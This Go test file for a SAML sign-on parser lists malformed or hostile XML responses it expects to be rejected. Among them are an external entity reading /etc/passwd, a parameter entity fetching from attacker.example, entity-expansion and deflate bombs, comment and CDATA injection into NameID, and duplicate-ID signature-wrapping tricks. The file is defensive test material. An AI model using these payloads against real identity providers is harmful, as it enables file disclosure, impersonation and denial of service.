package sso_test

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"

	"rollcall/sso/saml"
)

// replaced is the signed response with a piece of its text replaced, which must be there.
func replaced(old, replacement string) func(g genuine) string {
	return func(g genuine) string {
		return g.rewritten(func(text string) string {
			if !strings.Contains(text, old) {
				g.t.Fatalf("there is no %s", old)
			}
			return strings.Replace(text, old, replacement, 1)
		})
	}
}

func around(before, behind string) func(g genuine) string {
	return func(g genuine) string {
		return g.rewritten(func(text string) string { return before + text + behind })
	}
}

// deflated is text as HTTP-Redirect has it.
func deflated(g genuine, text string) string {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	must(g.t, err)
	_, err = w.Write([]byte(text))
	must(g.t, err)
	must(g.t, w.Close())
	return posted(b.String())
}

const (
	nameID   = ">anna@contoso.example</saml:NameID>"
	issuer   = "</saml:Issuer>"
	audience = "</saml:Audience>"
	doctype  = `<!DOCTYPE samlp:Response [`
)

var xmlGames = []attack{
	{"xml", "DOCTYPE", around(`<!DOCTYPE samlp:Response>`, ""), saml.Doctype},
	{"xml", "ATTLIST that makes an ID", around(doctype+`<!ATTLIST saml:Assertion Other ID #IMPLIED>]>`, ""),
		saml.Doctype},
	{"xml", "internal entity", around(doctype+`<!ENTITY e "x">]>`, ""), saml.Doctype},
	{"xml", "external entity", around(doctype+`<!ENTITY e SYSTEM "file:///etc/passwd">]>`, ""), saml.Doctype},
	{"xml", "parameter entity", around(doctype+`<!ENTITY % e SYSTEM "http://attacker.example/">%e;]>`, ""),
		saml.Doctype},
	{"xml", "entities that grow without end",
		around(doctype+`<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`, ""), saml.Doctype},
	{"xml", "lower case doctype", around(`<!doctype x>`, ""), saml.Doctype},
	{"xml", "entity that is not declared", replaced(nameID, `>&e;</saml:NameID>`), saml.Entity},
	{"xml", "entity in an attribute", replaced(`Version="2.0"`, `Version="2.0" Consent="&e;"`), saml.Entity},
	{"xml", "comment in NameID", replaced(nameID, `>anna@contoso.example<!---->.attacker.example</saml:NameID>`),
		saml.Comment},
	{"xml", "comment in Issuer", replaced(issuer, `<!-- -->`+issuer), saml.Comment},
	{"xml", "comment in Audience", replaced(audience, `<!-- -->`+audience), saml.Comment},
	{"xml", "comment before the document", around(`<!-- -->`, ""), saml.Comment},
	{"xml", "CDATA in NameID", replaced(nameID, `><![CDATA[anna@contoso.example]]></saml:NameID>`), saml.CDATA},
	{"xml", "CDATA in Issuer", replaced(issuer, `<![CDATA[]]>`+issuer), saml.CDATA},
	{"xml", "CDATA in Audience", replaced(audience, `<![CDATA[]]>`+audience), saml.CDATA},
	{"xml", "processing instruction in NameID", replaced(nameID, `>anna<?x?>@contoso.example</saml:NameID>`),
		saml.ProcessingInstruction},
	{"xml", "processing instruction in Issuer", replaced(issuer, `<?x?>`+issuer), saml.ProcessingInstruction},
	{"xml", "processing instruction in Audience", replaced(audience, `<?x?>`+audience), saml.ProcessingInstruction},
	{"xml", "second XML declaration", around(`<?xml version="1.0"?><?xml version="1.0"?>`, ""),
		saml.ProcessingInstruction},
	{"xml", "duplicate attribute", replaced(`ID="_assertion"`, `ID="_assertion" ID="_other"`), saml.DuplicateAttribute},
	{"xml", "duplicate attribute by two prefixes", replaced(`<samlp:Status>`,
		`<samlp:Status xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2">`), saml.DuplicateAttribute},
	{"xml", "duplicate ID", replaced(`ID="_response"`, `ID="_assertion"`), saml.DuplicateID},
	{"xml", "duplicate ID in another spelling", replaced(`<samlp:Status>`, `<samlp:Status Id="_assertion">`),
		saml.DuplicateID},
	{"xml", "duplicate xml:id", replaced(`<samlp:Status>`, `<samlp:Status xml:id="_assertion">`), saml.DuplicateID},
	{"xml", "second root", func(g genuine) string {
		return g.rewritten(func(text string) string { return text + text })
	}, saml.SecondRoot},
	{"xml", "leading text", around("x", ""), saml.TextOutsideRoot},
	{"xml", "trailing text", around("", "x"), saml.TextOutsideRoot},
	{"xml", "depth of 60,000", func(genuine) string {
		return posted(strings.Repeat("<a>", 60000) + strings.Repeat("</a>", 60000))
	}, saml.TooDeep},
	{"xml", "depth of 60,000 inside the response", replaced(`<samlp:Status>`,
		`<samlp:Status>`+strings.Repeat("<a>", 60000)+strings.Repeat("</a>", 60000)), saml.TooDeep},
	{"xml", "40,000 flat elements", replaced(`<samlp:Status>`, `<samlp:Status>`+strings.Repeat("<a/>", 40000)),
		saml.TooManyElements},
	{"xml", "10,000 attributes", func(g genuine) string {
		var b strings.Builder
		for i := range 10000 {
			fmt.Fprintf(&b, ` a%d=""`, i)
		}
		return replaced(`<samlp:Status>`, `<samlp:Status`+b.String()+`>`)(g)
	}, saml.TooManyAttributes},
	{"xml", "more than half a megabyte", around(strings.Repeat(" ", 512<<10), ""), saml.TooLarge},
	{"xml", "more than a megabyte of base64", func(genuine) string {
		return strings.Repeat("AAAA", 300000)
	}, saml.TooLarge},
	{"xml", "deflated", func(g genuine) string { return deflated(g, text(g.t, g.signed(places[0]))) }, saml.Compressed},
	{"xml", "deflate bomb", func(g genuine) string {
		return deflated(g, "<a>"+strings.Repeat(" ", 8<<20))
	}, saml.Compressed},
	{"xml", "no value", func(genuine) string { return "" }, saml.NoResponse},
	{"xml", "base64 with junk", func(g genuine) string {
		return g.rewritten(func(s string) string { return s }) + "!"
	}, saml.NotBase64},
	{"xml", "base64 with junk between lines", func(g genuine) string {
		value := posted(text(g.t, g.signed(places[0])))
		return value[:64] + "\n%\n" + value[64:]
	}, saml.NotBase64},
	{"xml", "base64 with a second value behind", func(g genuine) string {
		return posted(text(g.t, g.document)+" ") + "=" + posted(text(g.t, g.document))
	}, saml.NotBase64},
	{"xml", "no XML", func(genuine) string { return posted("hello") }, saml.NotXML},
	{"xml", "cut short", func(g genuine) string {
		return g.rewritten(func(text string) string { return text[:len(text)-5] })
	}, saml.NotXML},
	{"xml", "wrong end tag", replaced(`</samlp:Status>`, `</saml:Status>`), saml.NotXML},
	{"xml", "name with two colons", replaced(`<samlp:Status>`, `<samlp:Status a:b:c="">`), saml.NotXML},
	{"xml", "name that begins with a colon", replaced(`<samlp:Status>`, `<samlp:Status :a="">`), saml.NotXML},
	{"xml", "prefix that is not declared", replaced(`<samlp:StatusCode`, `<x:Status/><samlp:StatusCode`), saml.NotXML},
	{"xml", "attribute's prefix that is not declared", replaced(`<samlp:Status>`, `<samlp:Status x:y="">`),
		saml.NotXML},
	{"xml", "control character", replaced(nameID, ">anna\x00</saml:NameID>"), saml.NotXML},
	{"xml", "number of a control character", replaced(nameID, ">anna&#0;</saml:NameID>"), saml.NotXML},
	{"xml", "XML 1.1", around(`<?xml version="1.1"?>`, ""), saml.NotXML},
	{"xml", "another encoding declared", around(`<?xml version="1.0" encoding="ISO-8859-1"?>`, ""), saml.NotUTF8},
	{"xml", "UTF-7 declared", around(`<?xml version="1.0" encoding='utf-7'?>`, ""), saml.NotUTF8},
	{"xml", "UTF-16", func(g genuine) string {
		return g.rewritten(func(text string) string {
			b := []byte{0xff, 0xfe}
			for _, unit := range utf16.Encode([]rune(text)) {
				b = binary.LittleEndian.AppendUint16(b, unit)
			}
			return string(b)
		})
	}, saml.NotUTF8},
	{"xml", "bytes that are no UTF-8", replaced(nameID, ">anna\xff</saml:NameID>"), saml.NotUTF8},
}
